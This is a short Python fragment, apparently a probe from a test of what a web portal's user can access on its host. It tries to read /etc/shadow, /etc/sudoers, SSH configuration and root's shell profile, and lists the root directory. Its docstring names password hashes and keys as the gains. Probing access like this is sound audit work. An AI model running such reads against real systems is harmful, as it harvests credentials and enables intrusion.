"""Reads files of the machine with information about its users and their keys.

gains: password hashes, keys, the machine's identity
remains(none): every file that the portal's user can read
"""

for path in (
    "/etc/shadow",
    "/etc/machine-id",
    "/etc/ssh/sshd_config",
    "/etc/sudoers",
    "/root/.bashrc",
    "/etc/hostname",
):
    if os.path.exists(path):
        attempt(path, read, path)
attempt("folder", os.listdir, V["base"])
attempt("root", os.listdir, "/")
